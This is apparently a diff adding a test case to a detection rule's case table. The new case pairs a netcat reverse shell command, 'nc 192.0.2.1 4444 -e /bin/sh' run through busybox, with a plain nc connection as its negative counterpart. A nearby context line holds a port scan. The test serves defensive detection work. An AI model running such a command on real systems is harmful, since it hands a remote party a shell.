@@ -183,4 +183,10 @@ CASES = (
         runs("/srv/tool -sT 10.88.0.0/24"),
         "a tool of the image",
     ),
+    Case(
+        "Reverse shell command line",
+        runs("nc 192.0.2.1 4444 -e /bin/sh", proc__name="exe", proc__exepath="/usr/bin/busybox"),
+        runs("nc 192.0.2.1 4444", proc__name="exe", proc__exepath="/usr/bin/busybox"),
+        "one connection, started by a busybox that is its own shell",
+    ),
 )
